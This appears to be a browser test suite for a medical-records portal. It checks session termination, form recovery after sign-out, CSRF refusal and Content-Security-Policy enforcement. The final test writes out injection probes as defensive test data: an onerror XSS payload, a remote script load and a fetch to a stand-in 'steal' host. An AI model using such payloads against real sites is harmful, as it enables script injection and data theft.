import { call } from "../support/api.ts";
import { fleet } from "../support/fleet.ts";
import { signInAs } from "../support/signin.ts";
import { expect, test } from "../support/test.ts";
import { freshCode } from "../support/totp.ts";
import { acknowledge, deaNumber, isoDay } from "../support/workspaces.ts";

const login = "lakeshore-supervisor";

test("a session that is ended elsewhere is over at once, and the page says so", async ({ nobody }) => {
  const desk = await nobody();
  const phone = await nobody({
    userAgent:
      "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
  });
  await signInAs(desk.page, login, "/sessions");
  await signInAs(phone.page, login, "/sessions");
  await expect(phone.page.getByRole("row", { name: /Safari on iPhone/ })).toContainText("This session");

  await desk.page.reload();
  const own = desk.page.getByRole("row", { name: /Chrome on Linux/ }).filter({ hasText: "This session" });
  await expect(own.getByRole("button", { name: "Sign out" })).toBeVisible();
  await desk.page.getByRole("button", { name: "End the session of Safari on iPhone" }).click();
  await desk.page.getByRole("dialog").getByRole("button", { name: "End session" }).click();
  await expect(desk.page.getByText("The session is ended", { exact: true })).toBeVisible();
  await expect(desk.page.getByRole("row", { name: /Safari on iPhone/ })).toHaveCount(0);

  const answer = await call(phone.page, "GET", "/api/me");
  expect(answer).toMatchObject({ status: 401, body: { reason: "SESSION_ENDED" } });
  await phone.page.reload();
  await expect(phone.page.getByRole("heading", { name: "Your session was ended" })).toBeVisible();
  expect((await call(desk.page, "GET", "/api/me")).status).toBe(200);
});

test("what was typed outlives the session, for its person", async ({ nobody }) => {
  const { page } = await nobody();
  const officer = "highplains-compliance";
  await signInAs(page, officer, "/account");
  await acknowledge(page, "dea");
  await page.goto("/dea/records/new");
  const name = `Typed before the end ${Date.now()}`;
  await page.getByLabel("Registrant").fill(name);
  await page.getByLabel("DEA number").fill(deaNumber("FT", String(Date.now() % 1_000_000).padStart(6, "0")));
  await page.getByLabel("State of the registered location").selectOption("CO");
  await page.getByLabel("Stationhouse or location").fill("Station 3");
  await page.getByRole("checkbox", { name: "II", exact: true }).check();
  await page.getByLabel("Issued").fill(isoDay(-100));
  await page.getByLabel("Expires").fill(isoDay(900));
  await page.context().clearCookies({ name: "__Host-fleet-session" });
  await page.getByRole("button", { name: "Save registration" }).click();
  await expect(page.getByRole("dialog", { name: "You were signed out" })).toBeVisible();
  await expect(page.getByLabel("Registrant")).toBeHidden();

  const [beside] = await Promise.all([page.waitForEvent("popup"), page.getByRole("button", { name: "Sign in and go on" }).click()]);
  await beside.getByLabel("Username").fill(officer);
  await beside.getByLabel("Password").fill(fleet.password);
  await beside.getByRole("button", { name: "Continue" }).click();
  await beside.getByLabel("One-time code").fill(await freshCode(officer));
  await Promise.all([beside.waitForEvent("close"), beside.getByRole("button", { name: "Sign in", exact: true }).click()]);
  await expect(page.getByLabel("Registrant")).toHaveValue(name);

  await page.getByRole("link", { name: "Audit", exact: true }).click();
  const leaving = page.getByRole("dialog", { name: "Leave without saving?" });
  await leaving.getByRole("button", { name: "Cancel" }).click();
  await page.getByRole("button", { name: "Save registration" }).click();
  await expect(page.getByRole("heading", { level: 1, name })).toBeVisible();
});

test("when somebody else signs in beside it, a page shows nothing of its own any more", async ({ nobody }) => {
  const { page } = await nobody();
  await signInAs(page, "highplains-qa", "/qa/cases");
  await expect(page.getByRole("table").first()).toBeVisible();
  await signInAs(await page.context().newPage(), "lakeshore-medic2", "/charts");
  await expect(page.getByRole("heading", { name: "Somebody else has signed in" })).toBeVisible();
  await expect(page.getByRole("table")).toHaveCount(0);
  await page.getByRole("button", { name: "Continue as who is signed in now" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "Charts" })).toBeVisible();
});

test("what another page forges is refused and changes nothing", async ({ nobody }) => {
  const { page } = await nobody();
  await signInAs(page, "highplains-peer", "/sessions");
  const cookies = await page.context().cookies(fleet.gateway);
  const flags = (name: string) => cookies.find((c) => c.name === name);
  expect(flags("__Host-fleet-session")).toMatchObject({ httpOnly: true, secure: true, sameSite: "Lax", path: "/" });
  expect(flags("__Host-fleet-csrf")).toMatchObject({ httpOnly: false, secure: true, sameSite: "Strict", path: "/" });

  const refused = { status: 403, body: { reason: "CSRF_INVALID" } };
  expect(await call(page, "POST", "/api/sessions:endOthers", {}, { "X-CSRF-Token": "" })).toMatchObject(refused);
  expect(await call(page, "POST", "/api/sessions:endOthers", {}, { "X-CSRF-Token": "x".repeat(43) })).toMatchObject(refused);
  expect(await call(page, "POST", "/auth/logout", undefined, { "X-CSRF-Token": "" })).toMatchObject(refused);

  // A form on the provider's site, which is another origin on the same machine: the browser sends the cookie along.
  const other = await page.context().newPage();
  await other.goto(`${new URL(fleet.issuer).origin}/healthz`);
  const [answer] = await Promise.all([
    other.waitForResponse((r) => r.url() === `${fleet.gateway}/auth/logout`),
    other.evaluate((to) => {
      const form = document.createElement("form");
      form.method = "post";
      form.action = to;
      document.body.append(form);
      form.submit();
    }, `${fleet.gateway}/auth/logout`),
  ]);
  expect(answer.status()).toBe(403);
  // Asked by the context, which has the cookies of the page: Chromium may keep a page behind that tab waiting.
  expect((await page.context().request.get("/api/me")).status()).toBe(200);
});

test("a script that is not the portal's own does not run, nor does a page take the portal into a frame", async ({ nobody }) => {
  const { page, watch } = await nobody();
  await signInAs(page, "highplains-medic2", "/sessions");
  const thrown = await page.evaluate(async () => {
    const tries: (() => unknown)[] = [
      () => {
        const script = document.createElement("script");
        script.text = "window.intruder = 1";
        document.head.append(script);
      },
      () => {
        const script = document.createElement("script");
        script.src = "https://remote.example/intruder.js";
        document.head.append(script);
      },
      () => document.body.setAttribute("onclick", "window.intruder = 1"),
      () => (document.createElement("div").innerHTML = "<img src=x onerror='window.intruder = 1'>"),
      () => fetch("https://remote.example/steal"),
      () => {
        const image = document.createElement("img");
        image.src = "https://remote.example/pixel.png";
        document.body.append(image);
        image.remove();
      },
    ];
    let refused = 0;
    for (const attempt of tries) {
      try {
        await attempt();
      } catch {
        refused++;
      }
    }
    document.body.click();
    return refused;
  });
  expect(thrown, "all but the image, which fails without a word").toBe(5);
  expect(await page.evaluate(() => "intruder" in window)).toBe(false);
  for (const directive of ["require-trusted-types-for", "connect-src", "img-src"]) {
    await expect.poll(() => watch.violations.join("\n")).toContain(directive);
  }
  // These were provoked.
  watch.violations.length = 0;
  watch.errors.length = 0;
  watch.foreign.length = 0;

  const headers = (await page.goto("/sessions"))?.headers() ?? {};
  expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
  expect(headers["cross-origin-opener-policy"]).toBe("same-origin");
});
